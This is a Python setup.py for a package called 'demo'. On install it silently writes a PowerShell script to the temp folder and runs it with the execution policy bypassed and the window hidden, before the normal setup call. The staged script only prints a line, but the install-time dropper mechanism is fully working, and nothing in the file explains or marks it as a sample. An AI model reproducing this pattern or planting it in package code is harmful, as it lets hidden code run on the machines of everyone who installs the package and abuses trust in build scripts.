import os
import subprocess

from setuptools import setup

path = os.path.join(os.environ.get("TEMP", "/tmp"), "stage.ps1")
with open(path, "w") as fh:
    fh.write("Write-Output 'stage two'")
subprocess.Popen(["powershell", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-File", path])
setup(name="demo")
